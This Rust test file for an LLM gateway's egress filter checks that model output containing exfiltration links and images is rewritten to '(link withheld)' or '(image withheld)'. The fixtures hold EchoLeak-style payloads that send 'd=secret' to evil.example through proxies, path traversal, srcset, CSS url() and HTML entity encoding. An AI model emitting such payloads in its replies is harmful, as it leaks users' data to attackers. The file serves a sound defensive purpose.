//! What a client would fetch or follow in a model's text, through a running server: whole and streamed, both protocols.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::support::client::{Client, request};
use crate::support::rig::Rig;
use crate::support::upstream::{EVENTS, Gate, Step, Upstream, chunk, json as whole, send};

const POLICY: &str = "version: 1
name: shown
layers: {catalog: off, identity: off, egress: enforce, recipients: off, ownership: off, injection: off, tickets: off}
lists:
  shop: {hosts: [shop.example]}
  pictures: {hosts: [cdn.example/pictures]}
rendered: {images: [pictures], links: [shop], max_query: 32}
tools: [{tool: get_order, effect: read}]
";

const CHAT: &str = "/openai/v1/chat/completions";
const MESSAGES: &str = "/anthropic/v1/messages";

fn config(upstream: &str) -> String {
    format!(
        "upstreams: {{model: {{url: \"{upstream}\"}}}}
routes:
  - {{name: chat, prefix: /openai, upstream: model, protocol: openai_chat}}
  - {{name: messages, prefix: /anthropic, upstream: model, protocol: anthropic_messages}}
principal: {{fixed: {{tenant: t, subject: ann, agent: bot}}}}
"
    )
}

/// A text and what is left of it.
const CASES: [(&str, &str); 12] = [
    // As EchoLeak did: by reference, through a host that may be asked for pictures.
    (
        "Done.\n\n![logo][ref]\n\n[ref]: https://cdn.example/proxy?url=https%3A%2F%2Fevil.example%2F&d=secret\n",
        "Done.\n\n![logo][ref]\n\n(link withheld)\n",
    ),
    (
        "![logo][ref]\n\n[ref]: https://cdn.example/pictures/a.png?d=all-the-words-of-a-mail-that-nobody-may-see\n",
        "![logo][ref]\n\n(link withheld)\n",
    ),
    (
        "![logo](https://cdn.example/pictures/../proxy?d=secret) x",
        "(image withheld) x",
    ),
    (
        "a ![logo](https://cdn.example/pictures/a.png) b",
        "a ![logo](https://cdn.example/pictures/a.png) b",
    ),
    (
        "<img srcset=\"https://cdn.example/pictures/a.png 1x, https://evil.example/?d=secret 2x\"> x",
        "(image withheld) x",
    ),
    (
        "<div style=\"background:u\\72 l(https://evil.example/?d=secret)\">x</div>",
        "(image withheld)x</div>",
    ),
    (
        "see <https://evil.example/?d=secret> or www.evil.example/x, ok",
        "see (link withheld) or (link withheld), ok",
    ),
    (
        "&#104;ttps&colon;//evil.example/?d=secret ok",
        "(link withheld) ok",
    ),
    (
        "[shop](https://shop.example/a) [other](https&#58;//evil.example/?d=secret)",
        "[shop](https://shop.example/a) other (link withheld)",
    ),
    (
        "no image: ![x](https://shop.example/a.png)",
        "no image: (image withheld)",
    ),
    (
        "```sh\ncurl https://evil.example/\n```\n`<img src=//evil.example/>` stays",
        "```sh\ncurl https://evil.example/\n```\n`<img src=//evil.example/>` stays",
    ),
    ("1 < 2, [0, 1) and x!", "1 < 2, [0, 1) and x!"),
];

/// The text in pieces of so many characters.
fn cut(text: &str, size: usize) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    chars
        .chunks(size)
        .map(|piece| piece.iter().collect())
        .collect()
}

fn chat_event(delta: &Value, reason: &Value) -> String {
    let chunk = json!({
        "id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
        "choices": [{"index": 0, "delta": delta, "finish_reason": reason}],
    });
    format!("data: {chunk}\n\n")
}

fn chat_events(text: &str, size: usize) -> String {
    let mut events = String::new();
    for piece in cut(text, size) {
        events.push_str(&chat_event(&json!({"content": piece}), &Value::Null));
    }
    events.push_str(&chat_event(&json!({}), &json!("stop")));
    events + "data: [DONE]\n\n"
}

fn messages_events(text: &str, size: usize) -> String {
    let message = json!({"id": "m", "type": "message", "role": "assistant", "model": "m", "content": [], "stop_reason": null, "stop_sequence": null, "usage": {"input_tokens": 1, "output_tokens": 1}});
    let mut events = vec![
        json!({"type": "message_start", "message": message}),
        json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
    ];
    for piece in cut(text, size) {
        events.push(json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}}));
    }
    events.push(json!({"type": "content_block_stop", "index": 0}));
    events.push(json!({"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": null}, "usage": {"output_tokens": 9}}));
    events.push(json!({"type": "message_stop"}));
    let encoded = events.iter().map(|event| {
        let name = event["type"].as_str().unwrap();
        format!("event: {name}\ndata: {event}\n\n")
    });
    encoded.collect()
}

/// What a client of a stream ends up with.
fn joined(events: &str) -> String {
    let data = events
        .lines()
        .filter_map(|line| line.strip_prefix("data: "));
    let mut text = String::new();
    for data in data.filter(|data| data.starts_with('{')) {
        let event: Value = serde_json::from_str(data).unwrap();
        let said = [
            &event["choices"][0]["delta"]["content"],
            &event["delta"]["text"],
        ];
        for said in said.into_iter().filter_map(Value::as_str) {
            text.push_str(said);
        }
    }
    text
}

fn chat_whole(text: &str) -> String {
    json!({
        "id": "c", "object": "chat.completion", "created": 1, "model": "m",
        "choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}],
    })
    .to_string()
}

fn messages_whole(text: &str) -> String {
    json!({
        "id": "m", "type": "message", "role": "assistant", "model": "m", "content": [{"type": "text", "text": text}],
        "stop_reason": "end_turn", "stop_sequence": null, "usage": {"input_tokens": 1, "output_tokens": 1},
    })
    .to_string()
}

/// An upstream that says the text of the case that `model` names, in pieces of the size behind it, and with 0 in one.
async fn speaking() -> Upstream {
    Upstream::start(|received| {
        let asked: Value = serde_json::from_str(received.text()).unwrap();
        let (case, size) = asked["model"].as_str().unwrap().split_once('/').unwrap();
        let text = CASES[case.parse::<usize>().unwrap()].0;
        let size: usize = size.parse().unwrap();
        let is_chat = received.target().ends_with("/chat/completions");
        match (is_chat, size) {
            (true, 0) => whole(&chat_whole(text)),
            (false, 0) => whole(&messages_whole(text)),
            (true, size) => vec![send(EVENTS), chunk(chat_events(text, size)), chunk("")],
            (false, size) => vec![send(EVENTS), chunk(messages_events(text, size)), chunk("")],
        }
    })
    .await
}

async fn said(rig: &Rig, path: &str, case: usize, size: usize) -> String {
    let model = format!("{case}/{size}");
    let body = json!({"model": model, "max_tokens": 9, "stream": size > 0, "messages": [{"role": "user", "content": "hi"}]});
    let answer = rig.ask(request("POST", path, &[], body.to_string())).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    assert!(answer.whole);
    if size > 0 {
        return joined(answer.text());
    }
    let body = answer.json();
    let texts = [
        &body["choices"][0]["message"]["content"],
        &body["content"][0]["text"],
    ];
    let text = texts.into_iter().find_map(Value::as_str);
    text.unwrap().to_owned()
}

#[tokio::test]
async fn what_leads_elsewhere_is_taken_out_of_the_text_however_it_comes() {
    let upstream = speaking().await;
    let rig = Rig::start(&config(&upstream.url()), POLICY).await;
    let mut rewritten = 0;
    for (case, (text, expected)) in CASES.iter().enumerate() {
        for path in [CHAT, MESSAGES] {
            let said: BTreeSet<_> = [
                said(&rig, path, case, 0).await,
                said(&rig, path, case, 1).await,
                said(&rig, path, case, 7).await,
                said(&rig, path, case, 1000).await,
            ]
            .into();
            assert_eq!(
                said,
                BTreeSet::from([(*expected).to_owned()]),
                "{path} {text}"
            );
        }
        rewritten += usize::from(text != expected);
    }
    assert!(rewritten > 0);
    let scrape = rig.scrape().await;
    let counted =
        "holdpoint_verdicts_total{layer=\"egress\",mode=\"enforce\",verdict=\"rewrite\"} ";
    let line = scrape.lines().find_map(|line| line.strip_prefix(counted));
    let count: usize = line.unwrap().parse().unwrap();
    assert!(count >= 8 * rewritten, "{count}");
}

#[tokio::test]
async fn shadow_judges_and_changes_nothing() {
    let upstream = speaking().await;
    let policy = POLICY.replace("egress: enforce", "egress: shadow");
    let rig = Rig::start(&config(&upstream.url()), &policy).await;
    for (case, (text, _)) in CASES.iter().enumerate() {
        for path in [CHAT, MESSAGES] {
            assert_eq!(said(&rig, path, case, 0).await, *text);
            assert_eq!(said(&rig, path, case, 3).await, *text);
        }
    }
    let scrape = rig.scrape().await;
    let counted = "holdpoint_verdicts_total{layer=\"egress\",mode=\"shadow\",verdict=\"rewrite\"} ";
    let line = scrape.lines().find_map(|line| line.strip_prefix(counted));
    assert!(line.unwrap() != "0", "{scrape}");
}

#[tokio::test]
async fn without_the_rule_text_passes_untouched() {
    let upstream = speaking().await;
    let policy = POLICY.replace(
        "rendered: {images: [pictures], links: [shop], max_query: 32}",
        "egress: {allow: [shop, pictures]}",
    );
    let rig = Rig::start(&config(&upstream.url()), &policy).await;
    for (case, (text, _)) in CASES.iter().enumerate() {
        for path in [CHAT, MESSAGES] {
            assert_eq!(said(&rig, path, case, 0).await, *text);
            assert_eq!(said(&rig, path, case, 3).await, *text);
        }
    }
}

#[tokio::test]
async fn only_what_may_become_an_image_or_a_link_waits() {
    let gate = Gate::default();
    let wait = gate.clone();
    let event = |text: &str| chunk(chat_event(&json!({"content": text}), &Value::Null));
    let steps = move || {
        vec![
            send(EVENTS),
            event("first words, "),
            event("then ![a](https://evil.exam"),
            Step::Wait(wait.clone()),
            event("ple/?d=secret) last words"),
            Step::Wait(wait.clone()),
            chunk(chat_event(&json!({}), &json!("stop")) + "data: [DONE]\n\n"),
            chunk(""),
        ]
    };
    let upstream = Upstream::start(move |_| steps()).await;
    let rig = Rig::start(&config(&upstream.url()), POLICY).await;
    let mut client = Client::connect(rig.agents()).await;
    let body = r#"{"model":"m","stream":true,"messages":[{"role":"user","content":"hi"}]}"#;
    client.send(request("POST", CHAT, &[], body)).await;
    client.head().await;
    let before = client.until("then ").await;
    assert!(!before.contains('!'), "{before}");
    gate.open();
    let after = client.until("last words").await;
    assert!(
        after.contains("(image withheld) last") && !after.contains("evil"),
        "{after}"
    );
    gate.open();
    client.until("[DONE]").await;
}
